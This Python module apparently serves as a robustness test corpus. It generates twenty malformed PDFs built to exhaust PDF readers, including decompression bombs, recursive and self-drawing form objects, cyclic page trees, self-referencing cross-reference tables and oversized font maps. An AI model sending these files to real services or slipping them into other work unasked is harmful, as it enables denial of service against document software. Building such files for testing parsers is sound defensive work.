"""PDFs that ask for more than any reader has: small files, each the whole attack and nothing else."""

import zlib
from collections.abc import Callable, Mapping

PAGE = "/Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]"
MEGA = 1 << 20


def document(*objects: str | bytes, root: int = 1) -> bytes:
    """A PDF of these objects, numbered from 1, with its cross-reference table."""
    body = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, one in enumerate(objects, 1):
        offsets.append(len(body))
        body += b"%d 0 obj\n%b\nendobj\n" % (number, one.encode() if isinstance(one, str) else one)
    table = len(body)
    body += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    body += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    body += b"trailer<</Size %d/Root %d 0 R>>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, root, table)
    return bytes(body)


def stream(data: bytes, extra: str = "") -> bytes:
    """A stream object."""
    return b"<</Length %d%b>>stream\n%b\nendstream" % (len(data), extra.encode(), data)


def page(content: bytes, *more: str | bytes, resources: str = "") -> bytes:
    """One page with that content stream (object 4); further objects are numbered from 5."""
    return document(
        "<</Type/Catalog/Pages 2 0 R>>",
        "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        f"<<{PAGE}/Contents 4 0 R/Resources<<{resources}>>>>",
        content,
        *more,
    )


def deflated(block: bytes, times: int) -> bytes:
    """What zlib makes of `block` so many times over, made without ever writing it out."""
    packer = zlib.compressobj(9)
    first = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    return first + again * (times - 1) + packer.compress(b"") + packer.flush()


def flate_bomb() -> bytes:
    """2 GiB of drawing in 2 MB."""
    return page(stream(deflated(b"0 0 m 1 1 l S \n" * (MEGA // 15), 2048), "/Filter/FlateDecode"))


def triple_flate() -> bytes:
    """10 GB in a kilobyte: a deflated stream of deflated streams deflates again."""
    data = deflated(bytes(MEGA), 10_000)
    for _ in range(2):
        data = zlib.compress(data, 9)
    return page(stream(data, "/Filter[/FlateDecode/FlateDecode/FlateDecode]"))


def operators() -> bytes:
    """100 MB of saving and restoring the graphics state."""
    return page(stream(deflated(b"q Q " * (MEGA // 4), 100), "/Filter/FlateDecode"))


def _composite_font(cmap: bytes, widths: str = "") -> bytes:
    return page(
        stream(b"BT /F 12 Tf 9 9 Td <00410042> Tj ET"),
        "<</Type/Font/Subtype/Type0/BaseFont/X/Encoding/Identity-H/DescendantFonts[6 0 R]/ToUnicode 8 0 R>>",
        "<</Type/Font/Subtype/CIDFontType2/BaseFont/X/FontDescriptor 7 0 R"
        f"/CIDSystemInfo<</Registry(Adobe)/Ordering(Identity)/Supplement 0>>{widths}>>",
        "<</Type/FontDescriptor/FontName/X/Flags 4/FontBBox[0 0 9 9]/ItalicAngle 0"
        "/Ascent 9/Descent 0/StemV 9>>",
        stream(cmap),
        resources="/Font<</F 5 0 R>>",
    )


def bfrange() -> bytes:
    """A font that maps four billion codes."""
    return _composite_font(b"1 beginbfrange <00000000> <FFFFFFFF> <0041> endbfrange")


def bfranges() -> bytes:
    """A font that maps 64 thousand codes 200 times."""
    return _composite_font(b"200 beginbfrange " + b"<0000> <FFFF> <0041> " * 200 + b"endbfrange")


def widths() -> bytes:
    """A font with a billion widths."""
    return _composite_font(b"", "/W[0 1000000000 500]")


def predictor() -> bytes:
    """Rows of two thousand million columns."""
    parameters = (
        "/Filter/FlateDecode/DecodeParms<</Predictor 15/Columns 2147483647/Colors 4/BitsPerComponent 8>>"
    )
    return page(stream(zlib.compress(bytes(MEGA)), parameters))


def xref_index() -> bytes:
    """A cross-reference stream that announces a billion objects."""
    body = bytearray(b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n")
    body += b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
    start = len(body)
    rows = zlib.compress(bytes(64))
    body += b"3 0 obj<</Type/XRef/Size 1000000000/Index[0 1000000000]/W[1 2 1]/Root 1 0 R/Filter/FlateDecode"
    body += b"/Length %d>>stream\n%b\nendstream endobj\nstartxref\n%d\n%%%%EOF" % (len(rows), rows, start)
    return bytes(body)


def laughs() -> bytes:
    """Ten forms, each of which draws the next one ten times: ten thousand million drawings."""
    forms: list[str | bytes] = [
        stream(
            b"/N Do " * 10,
            f"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</N {number + 1} 0 R>>>>",
        )
        for number in range(5, 15)
    ]
    last = stream(b"BT /F 9 Tf (ha) Tj ET", "/Type/XObject/Subtype/Form/BBox[0 0 9 9]")
    return page(stream(b"/N Do " * 10), *forms, last, resources="/XObject<</N 5 0 R>>")


def self_drawing() -> bytes:
    """A form that draws itself."""
    form = stream(
        b"/N Do /N Do", "/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</N 5 0 R>>>>"
    )
    return page(stream(b"/N Do"), form, resources="/XObject<</N 5 0 R>>")


def unterminated_string() -> bytes:
    """A string of 10 MB that never ends."""
    return page(stream(b"BT (" + b"a" * (10 * MEGA)))


def ascii85() -> bytes:
    """Five million letters z, each of which stands for four bytes."""
    return page(stream(b"z" * (5 * MEGA) + b"~>", "/Filter/ASCII85Decode"))


def deep_page_tree() -> bytes:
    """A page at the end of 20,000 branches."""
    depth = 20_000
    branches = [f"<</Type/Pages/Kids[{number + 1} 0 R]/Count 1>>" for number in range(2, depth + 2)]
    return document("<</Type/Catalog/Pages 2 0 R>>", *branches, f"<<{PAGE}>>")


def cyclic_page_tree() -> bytes:
    """A page tree that is its own branch, of a million pages."""
    return document("<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[2 0 R 2 0 R]/Count 1000000>>")


def previous_loop() -> bytes:
    """A cross-reference table whose predecessor is itself."""
    made = page(stream(b"BT ET"))
    table = made.index(b"xref\n")
    return made.replace(b"/Root", b"/Prev %d/Root" % table)


def endless_page() -> bytes:
    """A page of astronomic size."""
    return page(stream(b"BT ET")).replace(b"[0 0 595 842]", b"[-1e30 -1e30 1e30 1e30]")


def glyphs() -> bytes:
    """300,000 letters one over the other on one page."""
    text = b"BT /F 9 Tf 9 9 Td " + b"(a) Tj " * 300_000 + b"ET"
    font = "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
    packed = stream(zlib.compress(text), "/Filter/FlateDecode")
    return page(packed, font, resources="/Font<</F 5 0 R>>")


def many_pages() -> bytes:
    """One page that is listed two million times."""
    kids = "3 0 R " * 2_000_000
    return document(
        "<</Type/Catalog/Pages 2 0 R>>", f"<</Type/Pages/Kids[{kids}]/Count 2000000>>", f"<<{PAGE}>>"
    )


def cut_in_half() -> bytes:
    """Half of a file."""
    made = glyphs()
    return made[: len(made) // 2]


def nothing_but_its_name() -> bytes:
    """A header with noise behind it."""
    return b"%PDF-1.7\n" + bytes(range(256)) * 64


PDFS: Mapping[str, Callable[[], bytes]] = {
    made.__name__: made
    for made in (
        *(flate_bomb, triple_flate, operators, bfrange, bfranges, widths, predictor, xref_index, laughs),
        *(self_drawing, unterminated_string, ascii85, deep_page_tree, cyclic_page_tree, previous_loop),
        *(endless_page, glyphs, many_pages, cut_in_half, nothing_but_its_name),
    )
}
